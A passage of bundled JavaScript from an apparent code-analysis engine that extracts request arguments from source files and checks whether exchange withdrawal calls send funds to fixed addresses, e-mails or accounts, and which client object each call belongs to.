	const steps = /^\d*$/.test(path.at(-1) ?? "") ? path.slice(0, -1) : path;
	const name = match[1];
	if (steps.at(-1) === name || isMessage(text, value.pieces[0]?.source.start ?? 0)) return [];
	const at = part.text === "" ? span : require_worth_reading.sourceSpan(part, {
		start: 0,
		end: part.text.length
	});
	return [settingOf(withDefault({
		...given,
		path: [...steps.slice(0, -1), name],
		value: part,
		span: at
	}, text), given.call)];
}
/** A name without what styles write in it: `enable_withdrawals`, `enable-withdrawals` and `enableWithdrawals` are one. */
function folded(name) {
	return name.toLowerCase().replace(/[^a-z0-9]/g, "");
}
// ../engine/dist/risks/calls/mappings.js
/** The entries of mappings by their names: what a dictionary, a form, a builder or a request is told before it is handed over. */
/** Names of mappings that hold what a request says. */
const carries = /param|opt(?:s|ions)|body|data|payload|query|args|config|request|^req$|input|fields|form|json/i;
/** Of the place of an argument its name, folded; of one without a name its number. */
function nameOf(path) {
	return folded(path.findLast((step) => !/^\d*$/.test(step)) ?? path.at(-1) ?? "");
}
/** Calls that put a value in by its name. */
const puts = /^(?:put|set|add|append|insert|push|store|(?:add|set)?(?:query|form|body|url)?_?param(?:eter)?|add_?query_?item|set_?query|query)$/i;
/** Calls that make a mapping of their arguments, two by two. */
const makes = /^(?:of|mapof|dictionary|hashmap|map|immutablemap|dict)$/i;
function mappingsOf({ settings, reading: { calls }, document: { text } }) {
	const made = /* @__PURE__ */ new Map();
	const entries = /* @__PURE__ */ new Map();
	const inside = [];
	for (const [index, { path, via, call, span, value, name, container }] of settings.entries()) {
		const pair = call ? void 0 : pairAt(settings, index);
		if (pair) require_gates.addToGroup(entries, folded(path.at(-3) ?? ""), pair);
		if (!call && via === "assign") require_gates.addToGroup(made, folded(path.at(-1) ?? ""), span);
		const isDeclared = !call && via === "entry" && path.length === 1 && declared$1.test(text.slice(Math.max(0, span.start - 160), span.start));
		if (isDeclared) require_gates.addToGroup(made, folded(path[0] ?? ""), {
			start: span.start,
			end: endOfStatement$1(text, span)
		});
		if (/^\d*$/.test(path.at(-1) ?? "")) continue;
		if (!call && path.length > 1) require_gates.addToGroup(entries, folded(path.at(-2) ?? ""), {
			name,
			value,
			span,
			container
		});
		if (call || via === "entry" && path.length === 1 && !isDeclared) inside.push({
			name,
			value,
			span
		});
	}
	for (const { callee, args, span: place } of calls) {
		const last = callee.at(-1) ?? "";
		const isPut = callee.length > 1 && puts.test(last);
		const [only] = args;
		if (args.length === 2 && only?.path.at(-1) === "name" && args[1].path.at(-1) === "value" && only.value.kind === "text") inside.push({
			name: folded(only.value.text.slice(0, 60)),
			value: args[1].value,
			span: args[1].span
		});
		if (callee.length > 1 && args.length === 1 && only?.path.length === 1 && !isPut) {
			const step = {
				name: folded(last).replace(/^set|^with/, ""),
				value: only.value,
				span: only.span,
				isStep: true
			};
			require_gates.addToGroup(entries, folded(callee[0] ?? ""), step);
			inside.push(step);
		} else if (args.length === 1 && only?.path.length === 1 && isLaterStep(text, place.start)) inside.push({
			name: folded(last).replace(/^set|^with/, ""),
			value: only.value,
			span: only.span,
			isStep: true
		});
		for (const { path, value, span } of pairsIn$1({ args })) inside.push({
			name: nameOf(path),
			value,
			span
		});
		if (!isPut && !makes.test(last)) continue;
		for (const [i, { path, value }] of args.entries()) {
			const next = args[i + 1];
			if (value.kind !== "text" || !/^\d*[02468]$/.test(path[0] ?? "") || next?.path[0] !== String(Number(path[0]) + 1)) continue;
			const pair = {
				name: folded(value.text.slice(0, 60)),
				value: next.value,
				span: next.span
			};
			if (isPut) {
				require_gates.addToGroup(entries, folded(callee.at(-2) ?? ""), pair);
				if (callee.length > 2 && carries.test(callee.at(-2))) require_gates.addToGroup(entries, folded(callee.at(-3)), pair);
			} else inside.push(pair);
		}
	}
	inside.sort(byStart);
	for (const list of entries.values()) list.sort(byStart);
	for (const list of made.values()) list.sort((a, b) => a.start - b.start);
	return (name, before) => {
		const all = entries.get(folded(name)) ?? [];
		const from = lastBefore(made.get(folded(name)) ?? [], before);
		if (!from) {
			const told = all.slice(0, most$2).filter(({ isStep }) => !isStep);
			return told.filter(({ container }) => container === told[0]?.container);
		}
		if (!/^[A-Z_\d]+$/.test(name) && (before - from.start > reach$4 || definition$1.test(text.slice(from.end, before)))) return [];
		const own = within(all, from.start, before);
		const listed = own.filter(({ value: { kind } }) => kind === "list" || kind === "unknown").slice(0, mostLists$1).flatMap(({ span }) => within(inside, span.start, span.end));
		const found = [
			...own,
			...listed,
			...within(inside, from.start, from.end),
			...queryIn(from, text)
		];
		return requestMaker.test(text.slice(from.start, from.start + 120)) ? found.map(({ name: one, value, span }) => ({
			name: one,
			value,
			span
		})) : found;
	};
}
/** `params = [("status", "1")]`: what pairs of a list say, by the names in them. */
function pairAt(settings, index) {
	const { path, value, container } = settings[index];
	const next = settings[index + 1];
	if (path.at(-1) !== "0" || path.length < 3 || !/^\d+$/.test(path.at(-2)) || value.kind !== "text") return void 0;
	if (next?.path.at(-1) !== "1" || next.container !== container || !/^[A-Za-z]\w{0,60}$/.test(value.text)) return void 0;
	return {
		name: folded(value.text),
		value: next.value,
		span: next.span
	};
}
const declared$1 = /\b(?:let|const|var|val|auto)\s{1,9}(?:mut\s{1,9})?\w{1,60}\s{0,9}(?::[^=;\n]{0,80})?=\s{0,9}$/;
const longestStatement = 2e3;
function endOfStatement$1(text, { start, end }) {
	const rest = text.slice(start, start + longestStatement);
	return Math.max(end, start + (/;\s*(?:\n|\/\/|$)/.exec(rest)?.index ?? 0));
}
/** A step of a chain on a line of its own, which readers take for a call by itself. */
function isLaterStep(text, start) {
	return /\n\s{0,80}\??\.\s{0,9}$/.test(text.slice(Math.max(0, start - 100), start));
}
const longestQuery$1 = 1e3;
const entryOfQuery = /(?<=["'`&?])([A-Za-z]\w{1,40})=([^&"'`\s%{$]{0,80})(?=[&"'`])/g;
/** `"email=" + email + "&status=1"`: what the texts of an expression say, as a query is written. */
function queryIn({ start, end }, text) {
	return [...text.slice(start, Math.min(end, start + longestQuery$1)).matchAll(entryOfQuery)].map(({ 0: whole, 1: name = "", 2: value = "", index }) => {
		const at = start + index + whole.length - value.length;
		return {
			name: folded(name),
			value: value === "" ? { kind: "unknown" } : {
				kind: "text",
				text: value,
				pieces: []
			},
			span: {
				start: at,
				end: at + value.length
			}
		};
	});
}
/** What makes a request that holds only what the document puts into it. */
const requestMaker = /^\s*(?:new\s+|&)?[\w.:<>]{0,100}(?:Request|Params|Builder|Values|Dictionary|Map|Form|builder)\b/;
/** For sorting by where things begin. */
const byStart = (a, b) => a.span.start - b.span.start;
function lastBefore(spans, before) {
	return spans[countBefore(spans.length, (i) => spans[i].start < before) - 1];
}
function within(given, start, end) {
	const first = countBefore(given.length, (i) => given[i].span.start < start);
	return given.slice(first, first + most$2).filter(({ span }) => span.end <= end);
}
const mostLists$1 = 5;
/** A function begins. */
const definition$1 = /\b(?:def|function|func|fn|fun)\b\s*\w|\b(?:public|private|protected|async(?!\s+(?:with|for)\b))\s+[\w<>[\]., ]{1,80}\(/;
const reach$4 = 6e3;
/** A request has no more entries. */
const most$2 = 100;
// ../engine/dist/risks/calls/arguments.js
/** What a call is given: its arguments, those of the calls within, the entries of a mapping by its name, a builder’s steps. */
/** Names of what is sent, as a property without a value of its own, or spread into what is: `{ name, ...options }`. */
const shorthand$1 = /(?<=[{,]\s{0,40})(params|data|body|form|query|qs|payload)\s{0,40}(?=[,}])|(?:\.{3}|\*\*)\s?\$?([A-Za-z_]\w{0,60})/g;
/** Of a call with more, each endpoint among them would ask for all. */
const mostArguments$1 = 300;
const longestChain$1 = 800;
const link = /\s*(?:\\\r?\n\s*)?(?:\/\/[^\n]*\n\s*)?\.\s*(\w{1,60})\(((?:[^()]|\([^()]{0,200}\)){0,200})\)/y;
/** `.addQueryParameter("status", "1")` */
const putPair = /^\s*["'](\w{1,60})["']\s*,\s*([^]*)$/;
const literal = /^\s*(?:(["'`])([^"'`\n]{0,200})\1|(true|false|\d[\w.]{0,30}))(?:\.(?:to_string|into|to_owned)\(\))?\s*$/i;
/** What a call is given, and what the mappings hold that are handed to it by their names. */
function argumentsOf(call, subject, mappings) {
	const given = [];
	let hasUnknown = false;
	const { text, path: file } = subject.document;
	const inside = callsInside(call, subject);
	const isMadeThere = ({ start }) => inside.some((one) => one.span.start === start || one.span.start === start + 4);
	for (const argument of call.args.slice(0, mostArguments$1)) {
		const { path, value, span } = argument;
		given.push({
			name: nameOf(path),
			value,
			span
		}, ...queryOf(value));
		const named = path.length <= 2 ? namedBy(argument, text) : void 0;
		if (!named || isMadeThere(span)) continue;
		const entries = mappings(named.at(-1) ?? "", span.start);
		for (const { name, value: inner, span: at } of entries) given.push({
			name,
			value: inner,
			span: at
		});
		if (entries.every(({ isStep }) => isStep) && mayCarry(named, path, call)) hasUnknown = true;
	}
	for (const [, property, spread = ""] of text.slice(call.span.start, Math.min(call.span.end, call.span.start + longestChain$1)).matchAll(shorthand$1)) {
		const entries = mappings(property ?? spread, call.span.end);
		for (const { name: one, value, span } of entries) given.push({
			name: one,
			value,
			span
		});
		if (entries.every(({ isStep }) => isStep)) hasUnknown = true;
	}
	for (const { path, value, span } of pairsIn$1(call)) given.push({
		name: nameOf(path),
		value,
		span
	});
	given.push(...stepsBefore(call, subject, mappings));
	for (const one of inside) {
		given.push(...entriesOf(one));
		const handed = handedTo(one, text, mappings);
		given.push(...handed.given);
		if (handed.hasUnknown) hasUnknown = true;
	}
	given.push(...entriesBehind(call, subject));
	if (kotlin.test(file)) given.push(...pairsIn(text, call.span));
	const end = Math.min(text.length, call.span.end + longestChain$1);
	for (let at = call.span.end; at < end;) {
		const step = stepAt$1(at, subject);
		if (!step) break;
		given.push(step);
		at = step.next;
	}
	return {
		given,
		hasUnknown
	};
}
const onlyName = /^(?:&\s?(?:mut\s)?|\*{1,2}|\.{3})?[$@]?([A-Za-z_]\w{0,60})(?:\.clone\(\))?$/;
/** The names of an argument that is one; a reader may know its value already. */
function namedBy({ value, span }, text) {
	if (value.kind === "ref") return value.path;
	const name = span.end - span.start > 80 ? void 0 : onlyName.exec(text.slice(span.start, span.end))?.[1];
	return name === void 0 || /^(?:true|false|null|none|nil)$/i.test(name) ? void 0 : [name];
}
const steps = /* @__PURE__ */ new WeakMap();
/** The step of a chain that begins there. Each is read once, however many calls of the chain ask. */
function stepAt$1(at, subject) {
	const known = steps.get(subject) ?? /* @__PURE__ */ new Map();
	if (known.size === 0) steps.set(subject, known);
	if (!known.has(at)) known.set(at, readStep(at, subject.document.text));
	return known.get(at);
}
function readStep(at, text) {
	link.lastIndex = at;
	const found = link.exec(text);
	if (!found) return void 0;
	const next = link.lastIndex;
	const [whole, name = "", argument = ""] = found;
	const start = found.index + whole.length - argument.length - 1;
	const put = puts.test(name) ? putPair.exec(argument) : null;
	const told = literal.exec(put?.[2] ?? argument);
	const value = !told ? { kind: "unknown" } : told[3] === void 0 ? {
		kind: "text",
		text: told[2] ?? "",
		pieces: []
	} : {
		kind: "scalar",
		text: told[3]
	};
	const own = put ? argument.length - put[2].length : 0;
	return {
		name: folded(put?.[1] ?? name).replace(/^set|^with/, ""),
		value,
		span: {
			start: start + own,
			end: start + argument.trimEnd().length
		},
		next
	};
}
/** Of a chain that ends with this call the steps before: `parse(…).addQueryParameter("status", "1").build()`. */
function stepsBefore(call, { reading, document: { text } }, mappings) {
	const { start } = call.span;
	return callsWithin(reading, call.span, mostWithin).filter((one) => one !== call && one.span.start === start).flatMap(({ callee, args }) => {
		const [first, second] = args;
		const last = callee.at(-1) ?? "";
		if (args.length > 3 || !first || callee.length < 2) return [];
		if (second && puts.test(last) && first.value.kind === "text") return [{
			name: folded(first.value.text.slice(0, 60)),
			value: second.value,
			span: second.span
		}];
		if (args.length > 1 || !/^\d*$/.test(first.path[0] ?? "")) return [];
		const named = carries.test(last) ? namedBy(first, text) : void 0;
		const entries = named ? mappings(named.at(-1) ?? "", first.span.start) : [];
		return [{
			name: folded(last).replace(/^set|^with/, ""),
			value: first.value,
			span: first.span
		}, ...entries.map(({ name, value, span }) => ({
			name,
			value,
			span
		}))];
	});
}
const mostWithin = 30;
function callsInside({ span }, { reading }) {
	return callsWithin(reading, {
		start: span.start + 1,
		end: span.end
	}, mostWithin);
}
/**
* What a call within makes of what it is told: `map[string]string{"status": "1"}`, `dict(status=1)`, `{{"status", "1"}}`,
* `.status("1")`.
*/
function entriesOf({ callee, args }) {
	const named = args.filter(({ path }) => path.some((step) => !/^\d*$/.test(step))).slice(0, mostArguments$1).map(({ path, value, span }) => ({
		name: nameOf(path),
		value,
		span
	}));
	const last = callee.at(-1) ?? "";
	const pairs = [
		...pairsIn$1({ args }),
		...bracedPairs(args),
		...makes.test(last) || puts.test(last) ? twos(args) : []
	];
	const [only] = args;
	const step = args.length === 1 && only?.path.length === 1 && named.length === 0 ? [{
		...only,
		path: callee
	}] : [];
	return [...named, ...[...pairs, ...step].map(({ path, value, span }) => ({
		value,
		span,
		name: folded(path.at(-1) ?? "").replace(/^set|^with/, "")
	}))];
}
/** `Map.of("status", "1")`, `form.put("status", "1")`. */
function twos(args) {
	const placed = args.slice(0, mostArguments$1).filter(({ path }) => /^\d+$/.test(path[0] ?? "") && path.length === 1);
	return placed.flatMap(({ path, value }, index) => {
		const next = placed[index + 1];
		return Number(path[0]) % 2 === 0 && value.kind === "text" && /^[A-Za-z]\w{0,60}$/.test(value.text) && next ? [{
			...next,
			path: [value.text]
		}] : [];
	});
}
/** `{{"status", "1"}}` of C++, which has no names for the places of a list. */
function bracedPairs(args) {
	return args.slice(0, mostArguments$1).flatMap(({ path, via, value, container }, index) => {
		const next = args[index + 1];
		if (via !== "entry" || path.length > 1 || path[0] !== "0" || next?.path[0] !== "1" || next.container !== container) return [];
		return value.kind === "text" && /^[A-Za-z]\w{0,60}$/.test(value.text) ? [{
			...next,
			path: [value.text]
		}] : [];
	});
}
/** Calls that give what they are called on in another form: `form.Encode()`. */
const encodes = /^(?:url_?)?encode$|^(?:to|as|into)_?(?:string|query|str|map|json|dict|h|hash|params?)\w{0,8}$|^build$|^entries$|^clone$|^(?:json|dict|copy)$/i;
/** Calls that sign or encode what a request carries. */
const sends = /sign|encode|stringify|query|serializ|json|form|reader|bytes|dumps|marshal|to_?value|body|content|params|headers/i;
/** The mappings that go through a call within: `sign(params)`, `strings.NewReader(form.Encode())`. */
function handedTo({ callee, args, span }, text, mappings) {
	const given = [];
	let hasUnknown = false;
	const names = [];
	for (const argument of args.slice(0, mostHanded)) if (argument.path.length === 1 && (/^\d+$/.test(argument.path[0]) || carries.test(argument.path[0]))) {
		const name = namedBy(argument, text);
		if (name?.length === 1) names.push(name[0]);
	}
	const isSending = sends.test(callee.at(-1) ?? "");
	if (callee.length === 2 && encodes.test(callee[1])) names.push(callee[0]);
	for (const name of names) {
		const entries = mappings(name, span.start);
		given.push(...entries.map(({ name: one, value, span: at }) => ({
			name: one,
			value,
			span: at
		})));
		if ((carries.test(name) || isSending) && entries.every(({ isStep }) => isStep)) hasUnknown = true;
	}
	return {
		given,
		hasUnknown
	};
}
/** What signs or encodes takes no more. */
const mostHanded = 6;
/** `post(path) { |request| request.params = { status: 1 } }`: what the block behind a call says. */
function entriesBehind({ span }, { settings, document: { text } }) {
	const rest = text.slice(span.end, span.end + longestBlock);
	const open = /^\s{0,9}(?:\{|do\b)/.exec(rest)?.[0];
	if (open === void 0) return [];
	const to = span.end + (open.endsWith("{") ? endOfBraces(rest) : /\n\s*end\b/.exec(rest)?.index ?? rest.length);
	const sorted = sortedSettings(settings);
	const first = countBefore(sorted.length, (i) => sorted[i].span.start <= span.end);
	return sorted.slice(first, countBefore(sorted.length, (i) => sorted[i].span.start < to)).slice(0, mostEntries).filter((one) => one.span.end <= to && !/^\d*$/.test(one.path.at(-1) ?? "")).map(({ name, value, span: at }) => ({
		name,
		value,
		span: at
	}));
}
const longestBlock = 800;
/** A request has no more entries. */
const mostEntries = 100;
const byPlace = /* @__PURE__ */ new WeakMap();
/** By their places. */
function sortedSettings(settings) {
	let sorted = byPlace.get(settings);
	if (!sorted) byPlace.set(settings, sorted = [...settings].sort(byStart));
	return sorted;
}
function endOfBraces(text) {
	let open = 0;
	for (let at = 0; at < text.length; at += 1) {
		const letter = text.charAt(at);
		if (letter === "{") open += 1;
		else if (letter === "}" && (open -= 1) === 0) return at;
	}
	return text.length;
}
const kotlin = /\.(?:kts?|scala|sc)$/;
const pair = /"([\w.]{1,60})"\s{1,9}(?:to|->)\s{1,9}(?:("[^"\n$]{0,200}")|(true|false|null|\d[\w.]{0,30})|[\w.]{1,100})/g;
const longestCall$3 = 4e3;
/** `mapOf("status" to 1)`, in the call or in one within it. */
function pairsIn(text, { start, end }) {
	return [...text.slice(start, Math.min(end, start + longestCall$3)).matchAll(pair)].map(({ 0: whole, 1: name = "", 2: quoted, 3: scalar, index }) => {
		const value = quoted !== void 0 ? {
			kind: "text",
			text: quoted.slice(1, -1),
			pieces: []
		} : scalar === void 0 ? { kind: "unknown" } : {
			kind: "scalar",
			text: scalar
		};
		const at = start + index + whole.length - (/\s(\S+)$/.exec(whole)?.[1]?.length ?? 0);
		const length = (quoted ?? scalar)?.length;
		const from = length === void 0 ? at : start + index + whole.length - length;
		return {
			name: folded(name),
			value,
			span: {
				start: from,
				end: start + index + whole.length
			}
		};
	});
}
function mayCarry(named, path, { args }) {
	if (carries.test(named.at(-1) ?? "") || carries.test(path.at(-1) ?? "")) return true;
	return args.length === 1 && path[0] === "0" && path.length === 1 && !/name|label|^ctx$|context/i.test(named.at(-1) ?? "");
}
/** The same of an argument that is such a text, or a name for one. */
function queryOf(value) {
	if (value.kind !== "text" || value.text.length > longestQuery || value.pieces.length === 0) return [];
	return [...value.text.matchAll(/(?<=^|[&?])([A-Za-z]\w{1,40})=([\w.,:-]{1,80})(?=&|$)/g)].map(({ 0: whole, 1: name = "", 2: word = "", index }) => {
		const end = index + whole.length;
		return {
			name: folded(name),
			value: {
				kind: "text",
				text: word,
				pieces: []
			},
			span: require_worth_reading.sourceSpan(value, {
				start: end - word.length,
				end
			})
		};
	});
}
const longestQuery = 1e3;
// ../engine/dist/risks/calls/destinations.js
/** Names of arguments that say to whom. */
const toWhom = /^(?:to|dest|destination|withdraw(?:al)?|recipient|receiver|beneficiary|target|payout|cold)?(?:address|addr|wallet|email|accountid|accountnumber|iban|uid|subaccountid)$|^(?:to|toid|dest|destination|recipient|receiver|beneficiary|payee)$/;
const account = /^(?:to|recipient|receiver|dest(?:ination)?|target)?(?:email|subaccountid|subaccount|uid|accountid)$|^toid$/;
const email = /^[^@\s]{1,80}@[\w.-]{1,80}\.\w{2,20}$/;
const chains = /^(?:0x[0-9a-f]{40,64}|(?:bc1|tb1|ltc1|bnb1|tbnb1|cosmos1|osmo1|terra1|addr1|inj1|kava1|celestia1|thor1|bc1p|sei1)[a-z0-9]{20,110}|[13LDTMXrt][1-9A-HJ-NP-Za-km-z]{24,60}|[1-9A-HJ-NP-Za-km-z]{32,110}|[EU]Q[\w-]{46}|G[A-Z2-7]{55})$/;
const placeholder$1 = /your|my_?|example|xxx|placeholder|replace|change_?me|<|\{|\$|^to_?address|^address|\.\.\./i;
/** Whether the code itself says where to: not a name, an environment variable or a placeholder. */
function isFixed(given) {
	return given.some(({ name, value }) => {
		if (value.kind !== "text") return false;
		const text = value.text.trim();
		if (placeholder$1.test(text) || text.length > 200) return false;
		if (chains.test(text)) return true;
		return toWhom.test(name) && (email.test(text) || text.length >= 20 && /^[\w:.-]+$/.test(text) && /\d/.test(text));
	});
}
/** Whether another account is named at all. */
function namesAccount(given) {
	return given.some(({ name, value }) => account.test(name) || value.kind === "text" && email.test(value.text));
}
const places = /^(?:(?:to|withdraw(?:al)?|dest(?:ination)?|target|wallet|cold|recipient)?_?(?:address|addr)|destination|recipient|network|chain|coin|asset|addresstag|withdraworderid|walletname|\w{0,20}address)$/;
/** Whether it looks like an exchange’s withdrawal: a coin, an amount and an address. A contract takes an amount alone. */
function looksLikeWithdrawal(given) {
	if (given.some(({ name }) => places.test(name) && !/^\d+$/.test(name))) return true;
	const positional = given.filter(({ name }) => /^\d+$/.test(name));
	return positional.length >= 3 || positional.some(({ value }) => value.kind === "ref" && /addr|dest|recipient|wallet/i.test(value.path.at(-1) ?? "")) || positional[0]?.value.kind === "text" && /^[A-Z0-9]{2,10}$/.test(positional[0].value.text) && positional.length >= 2;
}
// ../engine/dist/risks/calls/receivers.js
/**
* Whose object a method is called on: a client of Binance, one of another exchange, a contract or an account of something
* else, or unknown. Told by how the name came to be in the file, else by the name itself.
*/
const reach$3 = 200;
const joint$2 = /\s{0,40}(?:\?\.|!\.|&\.|\.|->|::)\s{0,40}$/;
const mostSteps$4 = 7;
/** Where the receiver begins that a text ends with, and which ends with what joins it: `(await client).rest?.` */
function receiverAt(text) {
	let start;
	let at = text.length;
	for (let steps = 0; steps < mostSteps$4; steps += 1) {
		const before = joint$2.exec(text.slice(Math.max(0, at - 90), at));
		if (!before) break;
		at -= before[0].length;
		const found = stepBefore(text, at) ?? (steps === 0 && text.charAt(at - 1) === ")" ? stepBefore(text, at - 1) : void 0);
		if (found === void 0) break;
		start = at = found;
	}
	if (start === void 0) return void 0;
	const lead = /\(\s{0,9}(?:await\s{1,9})?$/.exec(text.slice(Math.max(0, start - 30), start));
	return lead ? start - lead[0].length : start;
}
/** Where the step begins that ends there: a name, perhaps with what it is called with, on one line. */
function stepBefore(text, end) {
	let at = end;
	if (/[!?]/.test(text.charAt(at - 1))) at -= 1;
	const close = text.charAt(at - 1);
	if (close === ")" || close === "]") {
		const open = openingOf(text, at - 1, close === ")" ? "(" : "[", close);
		if (open === void 0) return void 0;
		at = open;
	}
	if (/[!?]/.test(text.charAt(at - 1))) at -= 1;
	let start = at;
	while (start > 0 && /[\w$@]/.test(text.charAt(start - 1))) start -= 1;
	while (start < at && /\d/.test(text.charAt(start))) start += 1;
	return start < at ? start : void 0;
}
/** The bracket that this one closes, on the same line; one pair deeper at the most. */
function openingOf(text, at, open, close) {
	let level = 0;
	for (let i = at; i >= 0; i -= 1) {
		const letter = text.charAt(i);
		if (letter === "\n") return void 0;
		if (letter === close) level += 1;
		else if (letter === open && (level -= 1) === 0) return i;
		if (level > 2) return void 0;
	}
}
function calleeOf({ callee, span }, text) {
	const method = callee.at(-1) ?? "";
	const paren = indexNear(text, "(", span.start);
	const end = (callee.length > 1 ? endOfName(text, span.start, span.end, method) : void 0) ?? (paren < 0 ? span.end : text.slice(span.start, paren).trimEnd().length + span.start);
	if (callee.length > 1) return {
		receiver: callee.slice(0, -1),
		method,
		start: span.start,
		end
	};
	const lead = text.slice(Math.max(0, span.start - reach$3), span.start);
	const from = receiverAt(lead);
	if (from === void 0) return {
		receiver: [],
		method,
		start: span.start,
		end
	};
	const found = lead.slice(from);
	return {
		receiver: (found.replace(/\([^()]*\)|\[[^\]]*\]/g, "").match(/[A-Za-z_$][\w$]*/g) ?? []).filter((one) => one !== "await"),
		method,
		start: span.start - found.length,
		end
	};
}
const farthest$2 = 2e3;
function indexNear(text, letter, from) {
	const at = text.slice(from, from + farthest$2).indexOf(letter);
	return at < 0 ? -1 : from + at;
}
/** The end of a call’s name, which other calls may stand before: `a(b).name(`. */
function endOfName(text, start, end, name) {
	const inside = text.slice(start, Math.min(end, start + farthest$2));
	let level = 0;
	let counted = 0;
	for (let at = inside.lastIndexOf(name); at >= 0; at = at === 0 ? -1 : inside.lastIndexOf(name, at - 1)) {
		for (; counted < at; counted += 1) level += opening$1(inside.charCodeAt(counted));
		for (; counted > at; counted -= 1) level -= opening$1(inside.charCodeAt(counted - 1));
		if (level === 0 && /^\s{0,60}(?:<[^()<>]{0,60}>)?\s{0,60}[({]/.test(inside.slice(at + name.length))) return start + at + name.length;
	}
}
/** What a letter adds to the number of open parentheses. */
function opening$1(code) {
	return code === 40 ? 1 : code === 41 ? -1 : 0;
}
/** False for a definition, for a function of the program’s own, and for a method that a class has from itself. */
function isCalled({ span }, { receiver, start }, { document, reading }) {
	const { text } = document;
	if (receiver.length === 0 || /^(?:super|parent)$/.test(receiver[0] ?? "")) return false;
	if (receiver.length === 1 && /^(?:this|self|cls|Self)$/.test(receiver[0] ?? "")) return false;
	if (receiver.length === 1 && reading.language === "go" && receiver[0] === ownName$1(text, start)) return false;
	const lead = text.slice(Math.max(0, start - 60), start);
	if (/\b(?:function|func|fun|def|fn|sub|class|interface)\s+(?:\([^)]*\)\s*)?$/.test(lead)) return false;
	return !(/^(?:c|php)$/.test(reading.language) && /^\s*(?:const\s*)?(?:noexcept\s*)?\{/.test(text.slice(span.end, span.end + 30)));
}
const method = /^func \((\w{1,40}) [*\w.[\]]{1,80}\)/gm;
/** What Go’s method calls the object that it is of: `s` of `func (s *Bot) Pay(`. */
function ownName$1(text, at) {
	const from = text.lastIndexOf("\nfunc ", at) + 1;
	method.lastIndex = from;
	const found = method.exec(text.slice(0, Math.min(text.length, from + 200)));
	return found?.index === from ? found[1] : void 0;
}
/** A vault’s, a bank’s, a shop’s: whatever withdraws and is no exchange. */
const elsewhere = /contract|vault|pool|token|erc20|weth|wbnb|escrow|bridge|router|stak(?:e|ing)|farm|lending|lottery|treasury$|bank|ledger|paypal|stripe|merchant|faucet|safe$|multisig|proxy$|masterchef|gauge|\bcake|aave|venus|methods$|functions$|mock|fake|stub|dummy|paper|simulat|atm$|piggy|savings$|user$|customer|player|game|checking|(?<!sub_?)acc(?:oun)?ts?$/i;
const contracts = /(?:^|[.:])(?:Contract|getContract|getContractAt|getContractFactory|BaseContract|attach|deployed|deploy|Bank\w*|Account|BankAccount|SavingsAccount|Wallet|Vault\w*|\w*Contract|\w*__factory\.connect|\w+\.eth\.contract|Safe|ERC20|IERC20)$|^(?:ethers|web3|w3)\b/;
/** Parts of SDKs that say nothing of whose they are. */
const parts = /^(?:this|self|rest|restapi|rest_api|api|spotapi|generalapi|account|wallet|capital|funding|subaccount|sub_account|giftcard|gift_card|createwallet|createsubaccount|creategiftcard|sapi|private|v3|client|exchange|spot|trading|service|services|state|data|ctx|app|await|unwrap|expect)$/i;
const chain = /smart[_-]?chain|binance[_-]?chain|bsc|binance[_-]?(?:dex|nft|peg)|bnb[_-]?chain/i;
const named$2 = String.raw`([A-Za-z_$][\w$]{0,60})`;
/** `x = new Spot(`, `x, err := binance.NewClient(`, `val x: T = …`. */
const assigned$2 = new RegExp(String.raw`(?<![\w$.])${named$2}(?:\s{0,9},\s{0,9}\w{1,30})?(?:\s{0,9}[?!]?:\s{0,9}[\w.<>|&*\\ \[\]]{1,80}?)?\s{0,9}(?::=|=)(?!=)\s{0,20}(?:(?:await|new|mut|yield|return)\s{1,9}|[\\&*(])*([A-Za-z_$][\w$.:\\>-]{0,100}?)(?:<[^()<>\n]{0,60}>)?!?\s?\(`, "g");
/** Members: `self.client = Client(`. */
const member = new RegExp(String.raw`(?:\.|->|@)${named$2}\s{0,9}(?::\s{0,9}[\w.<>|\[\] ]{1,80}?)?=(?!=)\s{0,20}(?:(?:await|new)\s{1,9}|[\\&*(])*([A-Za-z_$][\w$.:\\>-]{0,100}?)(?:<[^()<>\n]{0,60}>)?\s?\(`, "g");
/** Python: `with Client(…) as c`. */
const opened = new RegExp(String.raw`\bwith\s{1,9}([\w.]{1,100})\([^\n]{0,200}?\)\s{1,9}as\s{1,9}${named$2}`, "g");
/** `client: Spot`, `b: "ccxt.binance"`, `api: &MainClient`. */
const typed = new RegExp(String.raw`(?<![\w$])${named$2}\s{0,9}[?!]?:\s{0,9}["'&*]{0,2}(?:mut\s)?([A-Za-z_][\w.:]{2,100})`, "g");
/** `BinanceRestClient client`, `private final SpotClient client;`, `client *binance.Client`. */
const declared = new RegExp(String.raw`\b([A-Z]\w{2,80}|[a-z]\w{1,30}::[A-Z]\w{1,60})[?&*>]{0,2}\s{1,9}\$?${named$2}\s{0,9}[;,)={]`, "g");
const pointed = new RegExp(String.raw`(?<![\w$])${named$2}\s{1,9}\*?(\w{1,40}\.[A-Z]\w{1,60})\b`, "g");
/** `ccxt[name](`, `getattr(ccxt, 'binance')(`, `getattr(ccxt, name)`. */
const dynamic = new RegExp(String.raw`${named$2}\s{0,9}=\s{0,9}(?:new\s{1,9})?(?:getattr\(\s{0,9}ccxt[\w.]{0,30}\s{0,9},\s{0,9}|ccxt(?:\.\w{1,20})?\[\s{0,9})["'\x60]?([\w.]{1,60})["'\x60]?\s{0,9}[)\]]`, "g");
/** Clients of the modular SDKs, one for each part of the API. */
const modularTypes = /^(?:GiftCard|SubAccount|Wallet|Fiat|Pay|MarginTrading)$/;
/** Interfaces, traits and protocols that the file itself declares. */
const declaring = /\btype\s{1,9}(\w{1,60})\s{1,9}interface\b|\b(?:interface|trait|protocol|abstract\s{1,9}class)\s{1,9}(\w{1,60})|\bclass\s{1,9}(\w{1,60})\((?:\w{1,20}\.)?(?:Protocol|ABC)\b/g;
/** An interface of this name may well be one that Binance’s client is given. */
const ofExchanges = /binance|exchange|\bcex|spot|trad(?:e|ing)|market|broker|venue|custod|account/i;
const mostDeclared = 50;
/** The names that are said to be of such a type: `c chain`, `c: &dyn Chain`, `Chain c`. */
function* ofDeclaredTypes(text, isGo) {
	const types = /* @__PURE__ */ new Set();
	for (const [, go, word, python] of text.matchAll(declaring)) {
		const type = go ?? word ?? python ?? "";
		if (!ofExchanges.test(type) && types.size < mostDeclared) types.add(type);
	}
	if (types.size === 0) return;
	const type = `(?:${[...types].join("|")})`;
